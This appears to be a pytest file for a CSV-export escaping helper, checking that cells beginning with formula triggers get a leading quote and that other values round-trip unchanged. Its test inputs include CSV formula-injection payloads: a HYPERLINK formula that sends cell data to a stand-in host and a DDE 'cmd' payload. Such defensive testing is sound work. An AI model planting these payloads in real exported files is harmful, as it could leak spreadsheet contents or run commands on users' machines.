"""CSV export: formula triggers are neutralised, everything else survives a round trip."""

from __future__ import annotations

import csv
import io

import pytest

from aiaas.security.csv_safe import escape_cell, write_csv


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1"],
)
def test_formula_triggers_get_a_leading_quote(value: str) -> None:
    assert escape_cell(value) == "'" + value


@pytest.mark.parametrize(
    ("value", "expected"),
    [("hello", "hello"), ("a=b", "a=b"), (" =1", " =1"), ("", ""), (None, ""), (42, "42"), (-3, "-3"),
     (-1.5, "-1.5"), (True, "true"), ("'already", "'already"), ("日本語", "日本語")],
)  # fmt: skip
def test_safe_values_are_unchanged(value: object, expected: str) -> None:
    assert escape_cell(value) == expected


def test_write_csv_round_trips_with_escaping() -> None:
    rows = [["1", "=cmd|' /C calc'!A0", 0.5], ["2", 'quote " and, comma\nnewline', -7], ["3", None, "@x"]]
    buf = io.StringIO(newline="")
    assert write_csv(rows, buf, header=["id", "text", "score"]) == 3
    back = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    assert back == [
        ["id", "text", "score"],
        ["1", "'=cmd|' /C calc'!A0", "0.5"],
        ["2", 'quote " and, comma\nnewline', "-7"],
        ["3", "", "'@x"],
    ]


def test_header_cells_are_escaped_too() -> None:
    buf = io.StringIO(newline="")
    assert write_csv([], buf, header=["=evil"]) == 0
    assert buf.getvalue() == "'=evil\r\n"
